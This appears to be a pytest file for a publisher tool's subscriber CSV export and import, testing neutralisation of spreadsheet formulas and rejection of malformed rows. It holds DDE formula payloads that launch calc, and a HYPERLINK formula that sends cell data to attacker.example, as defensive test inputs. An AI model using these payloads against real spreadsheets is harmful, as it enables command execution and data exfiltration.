"""Issue 11, point 5: an export plants no formula in a spreadsheet, and a hostile import file loses one row, not the import.

Through the real command (`publisher subscribers export` / `import`): click's CliRunner for most, a subprocess where
the point is what an operator's shell gets.
"""

from __future__ import annotations

import csv
import io
import stat
import subprocess
import tracemalloc
from datetime import datetime, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from publisher.cli import main
from publisher.store import open_store
from subscribers import import_csv_bytes

from .conftest import TEST_SECRET_KEY
from .test_secrets_transport import publisher

# Valid addresses (email-validator accepts every character here) that are also spreadsheet formulas: DDE payloads.
HOSTILE_ADDRESSES = ["=cmd|'/Ccalc'!A1@example.com", "+1+cmd|'/Ccalc'!A1@example.com", "-2+3+cmd|'/Ccalc'!A1@example.com",
                     "'=quoted-already@example.com", "''-twice@example.com"]
# Topics reach the store unchecked through `subscribers add --topic`, so any text can come back out of it.
HOSTILE_TOPICS = ["@SUM(1+1)*cmd|'/Ccalc'!A0", "\t=1+1", "\r=HYPERLINK(\"https://attacker.example/?\"&A2)", "=1;=2"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def cli(project: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(project)
    runner = CliRunner()

    def invoke(*args: str) -> Result:
        return runner.invoke(main, list(args), catch_exceptions=False)

    return invoke


def test_export_neutralises_every_formula_cell_and_round_trips(cli, project: Path, tmp_path: Path) -> None:
    for address in HOSTILE_ADDRESSES:
        assert cli("subscribers", "add", "--confirmed", "--", address).exit_code == 0  # "--": "-2+3..." is no option
    topic_args = [a for t in HOSTILE_TOPICS for a in ("--topic", t)]
    refused = cli("subscribers", "add", "topics@example.com", "--confirmed", *topic_args)
    assert refused.exit_code == 2 and "unknown topic" in refused.output  # a topic must be one the site has: none of these is

    proc = publisher(project, "subscribers", "export", "out.csv", PUBLISHER_SECRET_KEY=TEST_SECRET_KEY)
    assert proc.returncode == 0, proc.stderr
    assert stat.S_IMODE((project / "out.csv").stat().st_mode) == 0o600  # personal data: readable by its owner only
    text = (project / "out.csv").read_bytes().decode("utf-8")  # bytes as written: no newline translation
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], "a cell a spreadsheet would run as a formula"
    by_email = {r[0]: r for r in rows[1:]}
    for address in HOSTILE_ADDRESSES:
        assert "'" + address.lower() in by_email  # OWASP: the cell gets a leading single quote, nothing else changes
    assert "topics@example.com" not in by_email
    # Every cell is quoted: neither ',' nor a locale's ';' can start a new cell inside one.
    assert all(line.startswith('"') and line.endswith('"') for line in text.split("\n") if line)
    # Everything else is as it was.
    assert by_email["reader@example.com"][:3] == ["reader@example.com", "active", ""]
    assert rows[0] == ["email", "status", "topics", "created_at", "confirmed_at"]

    # The export imports back to the very same addresses: the neutralising quote comes off again.
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    (fresh / "config.toml").write_text('[subscribers]\nsample_subscribers = []\n', encoding="utf-8")
    env = {"PUBLISHER_SECRET_KEY": TEST_SECRET_KEY}
    imported = publisher(fresh, "subscribers", "import", str(project / "out.csv"), "--confirmed", **env)
    assert imported.returncode == 0, imported.stderr
    assert "8 added" in imported.stdout and "0 rejected" in imported.stdout, imported.stdout
    listed = publisher(fresh, "subscribers", "list", **env).stdout
    for address in [*HOSTILE_ADDRESSES, "reader@example.com", "analyst@example.com"]:
        assert f"{address.lower()}\tactive" in listed, listed
    assert "topics@example.com" not in listed


def write_rows(path: Path, rows: list[bytes]) -> Path:
    path.write_bytes(b"".join(rows))
    return path


def import_file(project: Path, path: Path) -> subprocess.CompletedProcess[str]:
    return publisher(project, "subscribers", "import", str(path), "--confirmed", PUBLISHER_SECRET_KEY=TEST_SECRET_KEY)


def listed(project: Path) -> str:
    return publisher(project, "subscribers", "list", PUBLISHER_SECRET_KEY=TEST_SECRET_KEY).stdout


def test_a_field_over_the_csv_limit_is_one_rejected_row_not_an_aborted_import(project: Path) -> None:
    limit = csv.field_size_limit()
    assert limit == 131072, "Python's default reader limit"
    path = write_rows(project / "big.csv", [
        b"email,topics\n", b"before@example.com,\n", b'"' + b"x" * (limit + 10) + b'@example.com",\n',
        b"after@example.com,security-cooperation\n", b"x" * (limit + 1) + b",\n", b"last@example.com,\n"])
    assert publisher(project, "ingest", PUBLISHER_SECRET_KEY=TEST_SECRET_KEY).returncode == 0  # the site's topics
    proc = import_file(project, path)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    assert "3 added, 0 already known, 0 suppressed, 2 rejected" in proc.stdout
    assert "line 3: a field is longer than the CSV reader's limit of 131,072 characters" in proc.stderr
    assert "line 5: a field is longer than the CSV reader's limit" in proc.stderr
    names = listed(project)
    assert all(f"{a}\tactive" in names for a in ("before@example.com", "after@example.com", "last@example.com"))


def test_an_unclosed_quote_is_one_rejected_row_with_the_lines_it_swallowed(project: Path) -> None:
    path = write_rows(project / "quote.csv", [b"email\n", b"one@example.com\n", b'"open@example.com\n', b"two@example.com\n",
                                              b"three@example.com\n"])
    proc = import_file(project, path)
    assert proc.returncode == 0, proc.stderr
    assert "line 3:" in proc.stderr and "lines 3-5: is a quote left open?" in proc.stderr
    assert "one@example.com\tactive" in listed(project)


def test_other_broken_rows_mid_file_are_reported_and_the_rest_imported(project: Path) -> None:
    path = write_rows(project / "broken.csv", [
        b"email,topics\n",
        b"a@example.com,\n",
        b"bare-cr@example.com\rinjected@example.com,\n",   # 3: a carriage return inside an unquoted field
        b"nul\x00@example.com,\n",                           # 4: a NUL byte
        b"b@example.com," + b"y" * (3 * 1024 * 1024) + b"\n",  # 5: a 3 MiB line
        b"\xff\xfe\x00l\x00a\x00t\x00i\x00n\x00\n",          # 6: UTF-16, not UTF-8
        b"c@example.com,=HYPERLINK(\"https://attacker.example\")\n",  # 7: no topic of the site: left out, listed once
        b"d@example.com,security-cooperation\n",
    ])
    assert publisher(project, "ingest", PUBLISHER_SECRET_KEY=TEST_SECRET_KEY).returncode == 0  # the site's topics
    proc = import_file(project, path)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    assert "3 added, 0 already known, 0 suppressed, 4 rejected" in proc.stdout, proc.stdout
    assert 'topics not on this site (left out): =HYPERLINK("https://attacker.example")' in proc.stdout
    for line, why in ((3, "not a readable CSV row"), (4, "NUL"), (5, "longer than 1,048,576 bytes"), (6, "not UTF-8")):
        assert f"line {line}: " in proc.stderr and why in proc.stderr.split(f"line {line}: ", 1)[1].splitlines()[0], (line, proc.stderr)
    names = listed(project)
    assert "a@example.com\tactive" in names and "d@example.com\tactive\tsecurity-cooperation" in names
    assert "c@example.com\tactive\tall topics" in names  # kept, without the topic the site does not have
    assert "injected@example.com" not in names and "b@example.com" not in names


def test_an_unreadable_header_is_a_clear_error(project: Path) -> None:
    proc = import_file(project, write_rows(project / "h.csv", [b"email,\rtopics\n", b"a@example.com,\n"]))
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "error: the CSV's header row cannot be read" in proc.stderr


def test_an_enormous_line_is_skipped_without_being_held_in_memory(project: Path, tmp_path: Path) -> None:
    path = write_rows(tmp_path / "huge.csv", [b"email\n", b"a@example.com\n", b"z" * (40 * 1024 * 1024) + b"\n", b"b@example.com\n"])
    store = open_store(f"sqlite:///{tmp_path / 'db.sqlite'}")
    tracemalloc.start()
    try:
        with path.open("rb") as fh:
            report = import_csv_bytes(store, fh, datetime.now(timezone.utc), confirmed=True)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        store.close()
    assert (report.added, report.rejected_count) == (2, 1) and report.rejected[0][0] == 3
    assert peak < 8 * 1024 * 1024, f"peak {peak:,} bytes for a 40 MiB line"
